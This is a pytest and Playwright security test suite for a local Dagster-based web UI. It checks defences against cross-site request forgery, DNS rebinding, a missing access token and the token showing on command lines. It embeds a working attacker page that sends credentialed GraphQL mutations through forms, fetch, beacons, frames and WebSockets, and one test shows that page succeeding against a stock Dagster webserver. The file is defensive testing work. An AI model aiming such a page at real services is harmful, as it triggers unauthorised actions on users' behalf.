"""An engineer who has the UI open visits a page of an attacker, in Chromium: nothing happens to the flow.

The page tries all that a page can: images, scripts, frames, forms, fetch, beacons, windows and web sockets. That it
succeeds with Dagster's own web server is tried first.
"""

import http.server
import json
import os
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, BrowserContext

from tests.privacy.proof import web_server
from tests.production.processes import free_port, listens, process, program, wait_for

TRIED_MS = 4000
ATTACK = """\
<!doctype html><title>A page about something else</title>
<script>
const graphql = {target} + "/graphql", query = {query}
const address = graphql + "?query=" + encodeURIComponent(query), content = JSON.stringify({{query: query}})
const add = (tag, values) => {{
  const made = Object.assign(document.createElement(tag), values)
  document.body.append(made)
  return made
}}
onload = () => {{
  add("img", {{src: address}})
  add("script", {{src: address}})
  add("link", {{rel: "stylesheet", href: address}})
  add("iframe", {{src: address}})
  add("iframe", {{name: "taken"}})
  for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {{
    const form = add("form", {{method: "post", action: address, target: "taken", enctype: enctype}})
    form.append(Object.assign(document.createElement("input"), {{name: "query", value: query}}))
    form.submit()
  }}
  for (const type of ["text/plain", "text/plain; application/json", "application/json", "application/graphql"])
    for (const mode of ["no-cors", "cors"]) {{
      const body = type == "application/graphql" ? query : content
      const headers = {{"content-type": type}}
      fetch(graphql, {{method: "post", mode: mode, credentials: "include", headers: headers, body: body}})
        .catch(() => null)
      fetch(address, {{mode: mode, credentials: "include"}}).catch(() => null)
    }}
  navigator.sendBeacon(address, content)
  const socket = new WebSocket(graphql.replace("http", "ws"), "graphql-ws")
  socket.onopen = () => socket.send(JSON.stringify({{type: "start", id: "1", payload: {{query: query}}}}))
  open(address)
}}
</script>
"""
START = """mutation { startSensor(sensorSelector: {repositoryName: "__repository__",
repositoryLocationName: "dvz_assets.definitions", sensorName: "deliveries_sensor"}) { __typename } }"""
STATE = """query { sensorOrError(sensorSelector: {repositoryName: "__repository__",
repositoryLocationName: "dvz_assets.definitions", sensorName: "deliveries_sensor"}) {
... on Sensor { sensorState { status } } } }"""


@contextmanager
def page_of_an_attacker(target: str, query: str) -> Iterator[int]:
    """A web server with that page; gives its port."""
    content = ATTACK.format(target=json.dumps(target), query=json.dumps(query)).encode()

    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *values: Any) -> None: ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()


def visit(context: BrowserContext, address: str) -> None:
    page = context.new_page()
    page.goto(address)
    page.wait_for_timeout(TRIED_MS)


@pytest.fixture
def engineer(browser: Browser, ui: web_server) -> Iterator[BrowserContext]:
    """A browser in which the UI is open."""
    context = browser.new_context()
    context.new_page().goto(ui.entrance)
    yield context
    context.close()


def test_the_page_succeeds_with_the_web_server_of_dagster(browser: Browser, tmp_path: Path) -> None:
    port = free_port()
    environment = {**os.environ, "DAGSTER_HOME": str(tmp_path), "DAGSTER_DISABLE_TELEMETRY": "yes"}
    command = [program("dagster-webserver"), "--empty-workspace", "--read-only", "--port", str(port)]
    context = browser.new_context()
    target = f"http://127.0.0.1:{port}"
    with (
        process(command, environment, str(tmp_path / "log"), cwd=str(tmp_path)),
        page_of_an_attacker(target, "mutation { setNuxSeen }") as elsewhere,
    ):
        wait_for(lambda: listens(port), 60)
        visit(context, f"http://attacker.example:{elsewhere}/")
    context.close()
    assert list(tmp_path.rglob("nux.yaml")), "written by a server that was started with --read-only"


@pytest.mark.parametrize("host", ["attacker.example", "localhost", "127.0.0.1"])
def test_a_page_of_another_origin_gets_nowhere(engineer: BrowserContext, ui: web_server, host: str) -> None:
    before = ui("query { runsOrError { ... on Runs { count } } }")
    with page_of_an_attacker(ui.address, START) as elsewhere:
        visit(engineer, f"http://{host}:{elsewhere}/")
    assert ui(STATE)["sensorOrError"]["sensorState"]["status"] == "STOPPED"
    assert ui("query { runsOrError { ... on Runs { count } } }") == before


def test_a_name_that_becomes_an_address_of_this_machine_gets_nowhere(engineer: BrowserContext, ui: web_server) -> None:
    """DNS rebinding: the page has the origin of the UI's own port, and its name now leads there."""
    page = engineer.new_page()
    refused = page.goto(f"http://rebound.example:{ui.port}/")
    assert refused is not None
    assert refused.status == 421
    status = page.evaluate(
        """query => fetch("/graphql", {method: "post", headers: {"content-type": "application/json"},
        body: JSON.stringify({query: query})}).then(answer => answer.status, () => 0)""",
        START,
    )
    assert status in (0, 421)  # its own policy keeps it from asking at all
    assert ui(STATE)["sensorOrError"]["sensorState"]["status"] == "STOPPED"


def test_another_account_of_the_machine_needs_the_token(browser: Browser, ui: web_server) -> None:
    context = browser.new_context()
    answer = context.new_page().goto(f"{ui.address}/runs?query={quote(START)}")
    assert answer is not None
    assert answer.status == 401
    context.close()


def test_the_token_is_on_no_command_line(ui: web_server) -> None:
    token = ui.entrance.partition("token=")[2]
    shown = subprocess.run(["ps", "-ww", "-eo", "args"], check=True, capture_output=True, text=True).stdout
    assert "dvz" in shown
    assert token not in shown
